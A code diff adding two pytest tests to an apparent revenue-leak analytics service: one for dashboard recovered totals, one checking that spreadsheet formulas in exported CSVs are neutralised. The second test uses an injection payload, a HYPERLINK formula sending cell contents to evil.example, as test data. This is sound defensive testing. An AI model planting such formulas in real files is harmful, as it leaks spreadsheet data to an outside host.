@@ -7,14 +7,20 @@ from __future__ import annotations
 
 import csv
 import io
+import zipfile
 from collections import defaultdict
+from datetime import timedelta
 from decimal import Decimal
 from pathlib import Path
 
 import pyarrow.parquet as pq
 import pytest
+import sqlalchemy as sa
 
-from services import accounts, activity, anomalies, dashboard, demo, users
+from core.money import plain_decimal
+from db.models import Account
+from db.session import org_session
+from services import accounts, activity, anomalies, dashboard, demo, exports, users
 from services.anomalies import LEAK_TYPES, AnomalyFilters
 from services.context import Actor
 from services.errors import InvalidInput, NotFound
@@ -164,3 +170,45 @@ def test_account_drill_down(demo_actors: tuple[Actor, Actor]) -> None:
         (a.product_key, a.period_start) for a in view.anomalies}
     with pytest.raises(NotFound):
         accounts.account_view(analyst, "acct_missing")
+
+
+def test_recovered_total_ignores_the_status_filter_but_keeps_the_others(demo_actors: tuple[Actor, Actor]) -> None:
+    """The Overview's default filter is open + actioned: the Recovered tile must still show what was recovered."""
+    _, analyst = demo_actors
+    leak = next(r for r in everything(analyst) if r.type in LEAK_TYPES and r.status == "open")
+    anomalies.set_status(analyst, leak.id, "recovered")
+    default = AnomalyFilters(statuses=("open", "actioned"))
+    summary = dashboard.summary(analyst, default)
+    assert summary.recovered == {leak.currency: leak.amount}
+    assert dashboard.summary(analyst, AnomalyFilters(statuses=("open",), types=(leak.type,))).recovered == {
+        leak.currency: leak.amount}
+    # every other filter still applies to the recovered figure
+    other_currency = "eur" if leak.currency != "eur" else "usd"
+    other_types = tuple(t for t in LEAK_TYPES if t != leak.type)
+    for narrower in (AnomalyFilters(statuses=("open",), currency=other_currency),
+                     AnomalyFilters(statuses=("open",), types=other_types),
+                     AnomalyFilters(statuses=("open",), period_from=leak.period_start.date() + timedelta(days=1))):
+        assert dashboard.summary(analyst, narrower).recovered == {}, narrower
+    # and the status filter still applies to everything else: the recovered row is not counted as open
+    shown = everything(analyst, default)
+    assert summary.open_count == sum(1 for r in shown if r.type in LEAK_TYPES)
+    assert sum(b["count"] for b in summary.confidence) == len(shown)
+
+
+def test_a_reason_typed_as_a_formula_is_exported_as_text(demo_actors: tuple[Actor, Actor]) -> None:
+    """Finance opens exports in a spreadsheet: text must never arrive as a formula to run."""
+    _, analyst = demo_actors
+    target = everything(analyst)[0]
+    reason = '=HYPERLINK("http://evil.example/?x="&A1,"details")'
+    anomalies.set_status(analyst, target.id, "dismissed", reason)
+    with org_session(analyst.org_id) as session:  # a customer name from the billing system, say
+        session.execute(sa.update(Account).where(Account.account_id == target.account_id).values(name="-2+3"))
+    data, _ = anomalies.export_anomalies(analyst, anomalies.AnomalyFilters(statuses=("dismissed",)))
+    (row,) = csv.DictReader(io.StringIO(data.decode()))
+    assert row["account_name"] == "'-2+3" and row["amount"] == plain_decimal(target.amount)
+    archive = exports.export_audit(analyst, target.period_start.date(), target.period_end.date(), "csv").content
+    assert archive is not None
+    with zipfile.ZipFile(io.BytesIO(archive)) as files:
+        (exported,) = [r for r in csv.DictReader(io.StringIO(files.read("anomalies.csv").decode()))
+                       if r["id"] == str(target.id)]
+    assert exported["status_reason"] == "'" + reason
